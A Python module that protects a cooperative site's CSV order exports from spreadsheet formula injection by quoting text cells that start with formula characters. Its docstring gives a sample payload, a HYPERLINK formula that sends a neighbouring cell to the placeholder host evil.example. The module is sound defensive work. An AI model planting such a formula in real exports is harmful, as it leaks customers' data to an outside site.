"""CSV files the site writes, safe to open in a spreadsheet.

Excel, LibreOffice and Google Sheets read a cell that begins with `=`, `+`, `-` or `@` (or a
tab or carriage return, which they skip) as a formula: a buyer named
`=HYPERLINK("http://evil.example/?"&B2,"Open")` would become, in the cooperative's own order
export, a link that sends the neighbouring cells to her site. As OWASP advises, such a cell
gets a single quote in front, so that the spreadsheet shows the text as it was typed.

Only text cells (str) are changed. Numbers that our code writes itself (money in đồng,
quantities, running balances) stay numbers even when negative — a payout of -200000 must
still add up in the spreadsheet — and cannot carry a formula.
"""
import csv

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value):
    """`value`, with a quote in front when it is text a spreadsheet would run as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def writer(out, **options):
    """csv.writer(out, **options), whose text cells cannot start a formula."""
    return _SafeWriter(csv.writer(out, **options))


class _SafeWriter:
    def __init__(self, csv_writer):
        self._writer = csv_writer

    def writerow(self, row):
        return self._writer.writerow([safe_cell(value) for value in row])

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)
